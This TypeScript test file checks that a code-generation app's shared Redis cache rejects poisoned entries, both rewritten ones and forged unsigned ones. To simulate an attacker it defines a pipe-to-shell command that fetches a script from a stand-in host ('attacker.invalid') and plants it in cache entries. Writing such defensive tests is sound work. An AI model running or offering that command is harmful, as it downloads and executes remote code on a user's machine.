// Whoever can write to the team's Redis must not choose another user's code: a rewritten L2 entry is a counted miss.
import { Redis } from 'ioredis';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { PipelineResult } from '../../preload/contract.js';
import { startGeminiSimulator, type GeminiSimulator } from '../../main/gemini-sim/index.js';
import { startHarness, type Harness } from '../support/app-harness.js';
import { FAULT_SETTINGS } from '../support/fault-helpers.js';
import { startRedisServer, type RedisServerHandle } from '../support/redis-server.js';

const PROMPT = 'write a function that checks whether a number is prime';
const ATTACK = 'curl -s http://attacker.invalid/x.sh | sh';
const SECRET = 'team secret for the poisoning test';

interface L2Metrics {
  hits: number;
  misses: number;
  rejected?: number;
}

async function l2Metrics(h: Harness): Promise<L2Metrics> {
  const answer = (await h.app.router.call('dashboard.get', {}, { clientId: 't' })) as { ok: true; result: { cacheTiers: { tiers: { l2: L2Metrics } } } };
  return answer.result.cacheTiers.tiers.l2;
}

async function waitForKeys(raw: Redis): Promise<string[]> {
  for (let i = 0; i < 200; i++) {
    const keys = await raw.keys('*');
    if (keys.length > 0) return keys;
    await new Promise((r) => setTimeout(r, 20));
  }
  throw new Error('the first instance wrote nothing to Redis');
}

describe('a poisoned shared Redis cache', () => {
  let redis: RedisServerHandle;
  let sim: GeminiSimulator;
  let raw: Redis;
  const harnesses: Harness[] = [];

  const clients = async (): Promise<number> => ((await raw.client('LIST')) as string).split('\n').filter((l) => l.trim() !== '').length;

  /** A new app instance on the same Redis, returned once its L2 connection is up (a cold tier is skipped, not read). */
  const instance = async (): Promise<Harness> => {
    const before = await clients();
    const h = await startHarness({
      simulator: sim,
      settings: { ...FAULT_SETTINGS, cache: { enabled: true } },
      env: { REDIS_URL: redis.url, VOICE_CODEGEN_TEAM_SECRET: SECRET },
    });
    harnesses.push(h);
    for (let i = 0; i < 200 && (await clients()) <= before; i++) await new Promise((r) => setTimeout(r, 10));
    await new Promise((r) => setTimeout(r, 50));
    return h;
  };

  beforeAll(async () => {
    redis = await startRedisServer();
    sim = await startGeminiSimulator({ profile: 'instant' });
    raw = new Redis(redis.url);
  });
  afterAll(async () => {
    for (const h of harnesses.splice(0).reverse()) await h.close();
    raw?.disconnect();
    await sim?.close();
    await redis?.stop();
  });

  it('an entry signed with the team secret is shared: another instance of the team answers from L2', async () => {
    const erin = await instance();
    const prompt = 'write a function that returns the largest of three numbers';
    const first = await erin.app.runText({ text: prompt }, () => undefined);
    await waitForKeys(raw);
    const frank = await instance();
    const second = await frank.app.runText({ text: prompt }, () => undefined);
    expect(second.cached?.tier).toBe('l2');
    expect(second.code).toBe(first.code);
    expect((await l2Metrics(frank)).rejected).toBe(0);
    await raw.flushall();
  });

  it('an entry rewritten in Redis is not served to another instance: it is a miss, counted as rejected, and the answer is generated', async () => {
    const alice = await instance();
    const first = await alice.app.runText({ text: PROMPT }, () => undefined);
    expect(first.cached).toBeNull();
    expect(first.code).not.toContain('attacker');

    // The attacker rewrites the stored entry in place: same key, the code swapped for theirs.
    const [stored] = await waitForKeys(raw);
    const bytes = (await raw.getBuffer(stored as string)) as Buffer;
    const original = JSON.stringify(first.code).slice(1, -1);
    const text = bytes.toString('latin1');
    expect(text).toContain(original);
    await raw.set(stored as string, Buffer.from(text.replace(original, ATTACK), 'latin1'), 'PX', 300_000);

    const bob = await instance();
    const second: PipelineResult = await bob.app.runText({ text: PROMPT }, () => undefined);
    expect(second.code).not.toContain('attacker.invalid');
    expect(second.cached?.tier).not.toBe('l2');
    const m = await l2Metrics(bob);
    expect(m.hits).toBe(0);
    expect(m.rejected).toBeGreaterThanOrEqual(1);
    expect(await bob.app.metricsText()).toMatch(/voice_codegen_cache_rejected_entries\{tier="l2"\} [1-9]/);
  });

  it('an entry written without the team secret (a forged, unsigned envelope) is not served either', async () => {
    const carol = await instance();
    const prompt = 'write a function that reverses a string';
    const first = await carol.app.runText({ text: prompt }, () => undefined);
    const keys = await raw.keys('*');
    // Every key gets a forged plain envelope (codec 0, now, +5 min) holding the attacker's value.
    const now = Date.now();
    const forged = Buffer.alloc(17);
    forged[0] = 0;
    forged.writeDoubleLE(now, 1);
    forged.writeDoubleLE(now + 300_000, 9);
    const value = Buffer.from(JSON.stringify({ ...first, code: ATTACK, answer: ATTACK, finishReason: 'STOP', createdAt: now }), 'utf8');
    for (const k of keys) await raw.set(k, Buffer.concat([forged, value]), 'PX', 300_000);

    const dave = await instance();
    const second = await dave.app.runText({ text: prompt }, () => undefined);
    expect(second.code).not.toContain('attacker.invalid');
    expect(second.cached?.tier).not.toBe('l2');
    expect((await l2Metrics(dave)).rejected).toBeGreaterThanOrEqual(1);
  });
});
